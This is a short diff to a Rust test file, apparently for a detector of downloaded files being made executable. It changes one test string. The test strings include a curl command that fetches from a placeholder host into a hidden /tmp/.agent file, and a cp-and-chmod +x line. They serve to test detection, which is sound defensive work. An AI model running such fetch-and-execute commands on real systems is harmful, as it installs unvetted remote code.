@@ -129,7 +129,7 @@ fn only_an_execute_bit_on_the_file_itself_makes_it_executable() {
     // The execute bit is given to another file.
     assert_absent(&after("cp /tmp/.agent /tmp/.tool && chmod +x /tmp/.tool"), CHMOD_ID);
     // The fetch command's own words are no chmod.
-    assert_absent("curl -H \"X-Cmd: chmod 755\" -o /tmp/.agent https://h.example/a\n", CHMOD_ID);
+    assert_absent("curl -H \"X-Cmd: chmod 755 now\" -o /tmp/.agent https://h.example/a\n", CHMOD_ID);
 }
 
 #[test]
